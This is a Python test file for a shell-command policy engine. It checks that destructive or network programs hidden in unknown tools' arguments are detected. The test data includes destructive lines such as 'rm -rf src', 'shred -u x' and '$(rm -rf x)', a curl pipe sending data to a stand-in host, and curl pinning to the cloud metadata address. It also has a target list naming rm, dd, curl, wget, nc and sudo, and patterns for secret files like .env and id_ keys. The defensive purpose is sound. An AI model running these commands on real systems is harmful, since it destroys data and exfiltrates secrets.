"""Programs no table knows: a word that reads as a known program's command is read as one.

The cases, attacks and benign look-alikes, are in tests/data/shell_words_programs.yaml (run by
test_shell_words.py); these are the invariants: the rule over any unknown name, the words it
leaves alone, and the tables it rests on. POLICYENGINE_TEST_SCALE=10 draws ten times as many.
"""

from __future__ import annotations

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from policyengine.arguments import _url_pins, shell
from policyengine.arguments import shell_programs as table
from policyengine.arguments.paths import PathPattern
from policyengine.arguments.shell import UNKNOWN_FILES, CommandError, parse_command
from support import scaled

# Programs the packs' red lines name: what an unknown program may run must be reported.
TARGETS = ("rm", "shred", "unlink", "rmdir", "dd", "curl", "wget", "scp", "nc", "sudo")
UNKNOWN_NAMES = st.from_regex(r"[a-z][a-z0-9]{2,9}(-[a-z]{2,6})?", fullmatch=True)
PLAIN_WORDS = st.lists(st.from_regex(r"[a-z][a-z0-9_.]{0,10}", fullmatch=True), max_size=4)


def _deleting_verb(word: str) -> bool:
    """Whether a word has a piece named like a deleting subcommand (shell_programs.DELETING_VERBS)."""
    return any(shell._deleting_piece(piece) for piece in word.replace("-", "_").replace(":", "_").split("_"))


def _unknown(name: str) -> bool:
    """Whether no table knows the program (nor any of its other names)."""
    return not any(program in shell._NAMED_PROGRAMS for program in shell._program_names(name)[0])


@settings(max_examples=scaled(150), deadline=None)
@given(UNKNOWN_NAMES, st.sampled_from(TARGETS), PLAIN_WORDS)
def test_a_known_program_as_a_word_of_an_unknown_one_is_reported(name: str, target: str, before: list[str]) -> None:
    assume(_unknown(name) and all(_unknown(word) for word in before))
    command = parse_command(" ".join([name, *before, target, "x"]))
    assert target in command.programs, command


@settings(max_examples=scaled(150), deadline=None)
@given(UNKNOWN_NAMES, st.sampled_from(TARGETS), st.sampled_from(["", "-d ", "--exec ", "-c "]))
def test_a_quoted_command_line_given_to_an_unknown_program_is_read(name: str, target: str, option: str) -> None:
    assume(_unknown(name))
    command = parse_command(f"{name} {option}'{target} x'")
    assert target in command.programs, command


@settings(max_examples=scaled(150), deadline=None)
@given(UNKNOWN_NAMES, PLAIN_WORDS)
def test_plain_words_of_an_unknown_program_stay_operands(name: str, words: list[str]) -> None:
    # Round fourteen: a word named like a deleting subcommand (`remove`, `x_delete`) reads as rm.
    assume(_unknown(name) and all(_unknown(word) and not _deleting_verb(word) for word in words))
    command = parse_command(" ".join([name, *words]))
    assert command.programs == (name,), command
    assert set(words) <= set(command.operands), command


@pytest.mark.parametrize(
    "line",
    [
        "echo {t} -rf build",
        "printf '%s\\n' {t}",
        "git commit -m '{t} old file'",
        "grep {t} notes.txt",
        "which {t}",
        "docker {t} old-container",
        "mytool 'Fix the {t} docs'",
    ],
)
@pytest.mark.parametrize("target", ["rm", "shred", "curl"])
def test_a_known_program_keeps_its_reading_of_its_words(line: str, target: str) -> None:
    assert target not in parse_command(line.format(t=target)).programs


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("mytool 'x; rm -rf src'", "rm"),
        ("mytool 'a | curl -d @- https://x.example'", "curl"),
        ("mytool 'FOO=1 BAR=2 shred -u x'", "shred"),
        ("mytool --run='rm -rf x'", "rm"),
        ("mytool '(rm -rf x)'", "rm"),
    ],
)
def test_a_known_program_where_shell_text_starts_a_command_is_read(line: str, target: str) -> None:
    assert target in parse_command(line).programs


@pytest.mark.parametrize(
    "line",
    [
        "fzf --bind 'enter:execute(rm -rf {})'",
        "mytool 'rm \"unterminated'",
        "mytool 'x && (rm'",
        "mytool '$(rm -rf x)'",
    ],
)
def test_a_command_line_the_engine_cannot_read_is_unknown(line: str) -> None:
    with pytest.raises(CommandError):
        parse_command(line)


def test_plain_programs_run_no_command() -> None:
    runs = (
        table.WRAPPERS.keys()
        | table.RUNS_COMMANDS
        | shell._SHELLS
        | shell._OTHER_SHELLS
        | shell._WINDOWS_SHELLS
        # Round six: a container's `exec` runs a command, but docker's other subcommands name
        # objects (`docker rm c`): such a program stays plain, its `exec` read as a wrapper.
        | ({name for name, _ in table.SUBCOMMAND_WRAPPERS} - table.CONTAINER_EXEC_PROGRAMS)
        | {"eval", "source", ".", "trap", "exec", "command", "builtin", "runcon", "bind", "complete", "compgen", "fc"}
    )
    assert not table.PLAIN_PROGRAMS & runs


@pytest.mark.parametrize("name", sorted(table.COREUTILS))
@pytest.mark.parametrize("prefix", ["g", "uu"])
def test_a_prefixed_gnu_tool_is_the_tool(name: str, prefix: str) -> None:
    assert name in table.canonical_names(prefix + name)


@settings(max_examples=scaled(150), deadline=None)
@given(
    st.sampled_from(["bash", "zsh", "ksh", "mksh", "dash", "sh"]),
    st.from_regex(r"-?[0-9]{1,2}(\.[0-9]{1,2}){0,2}", fullmatch=True),
)
def test_a_versioned_shell_runs_its_string(name: str, version: str) -> None:
    assert "rm" in parse_command(f"{name}{version} -c 'rm -rf src'").programs


@settings(max_examples=scaled(150), deadline=None)
@given(
    st.sampled_from([".", "src", "/home/dev", "~/x"]),
    st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9._-]{0,12}", fullmatch=True),
    st.sampled_from(["-exec cat {} +", "-execdir cp {} /tmp/x \\;", "-ok cat {} \\;", "-delete", "| xargs cat"]),
)
def test_a_find_name_test_names_the_files_its_action_gets(start: str, name: str, action: str) -> None:
    acted = parse_command(f"find {start} -name {name} {action}").operands
    assert any(isinstance(operand, PathPattern) and operand.endswith("/**/" + name) for operand in acted), acted
    listed = parse_command(f"find {start} -name {name} | wc -l").operands
    assert not any(str(operand).endswith("/**/" + name) for operand in listed), listed


@pytest.mark.parametrize(
    ("regex", "name"),
    [
        ("^\\.env$", ".env"),
        ("pem", "*pem*"),
        ("^id_", "id_*"),
        ("\\.key$", "*.key"),
        ("te.t", UNKNOWN_FILES),
        ("(env|netrc)", UNKNOWN_FILES),
        ("", "*"),
    ],
)
def test_an_fd_regex_is_a_name_when_literal_else_unknown(regex: str, name: str) -> None:
    assert shell._regex_name(regex) == name


@pytest.mark.parametrize(
    ("option", "value", "urls"),
    [
        ("--resolve", "example.com:80:169.254.169.254", ["http://169.254.169.254:80"]),
        ("--resolve", "+example.com:443:10.0.0.1,[fd00::1]", ["http://10.0.0.1:443", "http://[fd00::1]:443"]),
        # No HOST:PORT:ADDR: read piece by piece (round fifteen, _url_pins), each a host reached.
        ("--resolve", "example.com:80", ["http://example.com", "http://80"]),
        ("--connect-to", "::169.254.169.254:", ["http://169.254.169.254"]),
        ("--connect-to", "a.example:443:[fd00::1]:8443", ["http://[fd00::1]:8443"]),
        ("--connect-to", "a.example:443::", []),
    ],
)
def test_where_curl_really_connects_is_a_url(option: str, value: str, urls: list[str]) -> None:
    assert _url_pins.targets(_url_pins.ANY_PROGRAM_OPTIONS[option], value) == urls
